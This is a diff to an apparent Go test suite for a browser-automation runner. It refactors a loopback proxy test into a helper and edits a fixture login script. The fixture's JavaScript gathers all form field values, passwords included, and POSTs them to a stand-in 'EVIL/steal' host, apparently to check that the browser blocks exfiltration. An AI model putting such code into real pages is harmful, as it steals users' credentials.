@@ -29,7 +29,9 @@ login:
   - type: {selector: "input[name=password]", value: "{{password}}"}
   - js:
       script: |
-        const p = document.querySelector('input[name=password]').value;
+        // Reads every field's value without naming one: lint cannot tell
+        // this from harmless code, so the browser must stop it.
+        const p = [...document.querySelectorAll('input')].map(i => i.value).join(' ');
         try { await fetch('https://EVIL/steal?p=' + encodeURIComponent(p), {method: 'POST', body: p, mode: 'no-cors'}); } catch (e) {}
         return true
 documents:
@@ -86,32 +88,7 @@ func TestProxyCarriesEverything(t *testing.T) {
 	origin.StartTLS()
 	defer origin.Close()
 
-	var connects []string
-	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		if r.Method != http.MethodConnect || r.Header.Get("Proxy-Authorization") != "Basic "+base64.StdEncoding.EncodeToString([]byte("alice:s3cret")) {
-			http.Error(w, "no", http.StatusProxyAuthRequired)
-			return
-		}
-		mu.Lock()
-		connects = append(connects, r.Host)
-		mu.Unlock()
-		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}}
-		up, err := d.Dial("tcp", origin.Listener.Addr().String())
-		if err != nil {
-			http.Error(w, err.Error(), http.StatusBadGateway)
-			return
-		}
-		w.WriteHeader(http.StatusOK)
-		down, _, err := w.(http.Hijacker).Hijack()
-		if err != nil {
-			up.Close()
-			return
-		}
-		go func() { io.Copy(up, down); up.Close() }()
-		io.Copy(down, up)
-		down.Close()
-	}))
-	defer proxy.Close()
+	proxy := startLoopbackProxy(t, origin.Listener.Addr().String(), "alice:s3cret")
 
 	host := fmt.Sprintf("proxied%d.portal.test", time.Now().UnixNano()%1e6)
 	src := header + "two_factor: []\n" + `
@@ -122,7 +99,7 @@ documents:
   - download: {id: P-1, click: "a.dl", content_type: application/pdf}
 `
 	job := testJob(t, &fakeSecrets{}, &memStore{}, nil)
-	job.Proxy = "http://alice:s3cret@" + proxy.Listener.Addr().String()
+	job.Proxy = "http://alice:s3cret@" + proxy.addr
 	res, err := runJob(t, NewRunner(scriptFor(t, host, src), pool), job)
 	if err != nil || res.New != 1 {
 		t.Fatalf("run through the proxy: %v, %d new\n%s", err, res.New, stepsText(res))
@@ -139,9 +116,56 @@ documents:
 			t.Errorf("%s bypassed the proxy (from %s)", p, ip)
 		}
 	}
-	for _, c := range connects {
+	for _, c := range proxy.connects() {
 		if c != host+":443" {
 			t.Errorf("the proxy was asked for %s, want only %s:443", c, host)
 		}
 	}
+}
+
+// loopbackProxy is an HTTP proxy on loopback that admits CONNECT with one
+// user:password and reaches the origin from 127.0.0.2, so the origin tells
+// proxied requests from any that bypassed it.
+type loopbackProxy struct {
+	addr string
+	mu   sync.Mutex
+	seen []string // CONNECT targets
+}
+
+func (p *loopbackProxy) connects() []string {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	return append([]string(nil), p.seen...)
+}
+
+func startLoopbackProxy(t testing.TB, origin, userinfo string) *loopbackProxy {
+	t.Helper()
+	p := &loopbackProxy{}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method != http.MethodConnect || r.Header.Get("Proxy-Authorization") != "Basic "+base64.StdEncoding.EncodeToString([]byte(userinfo)) {
+			http.Error(w, "no", http.StatusProxyAuthRequired)
+			return
+		}
+		p.mu.Lock()
+		p.seen = append(p.seen, r.Host)
+		p.mu.Unlock()
+		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}}
+		up, err := d.Dial("tcp", origin)
+		if err != nil {
+			http.Error(w, err.Error(), http.StatusBadGateway)
+			return
+		}
+		w.WriteHeader(http.StatusOK)
+		down, _, err := w.(http.Hijacker).Hijack()
+		if err != nil {
+			up.Close()
+			return
+		}
+		go func() { io.Copy(up, down); up.Close() }()
+		io.Copy(down, up)
+		down.Close()
+	}))
+	t.Cleanup(srv.Close)
+	p.addr = srv.Listener.Addr().String()
+	return p
 }
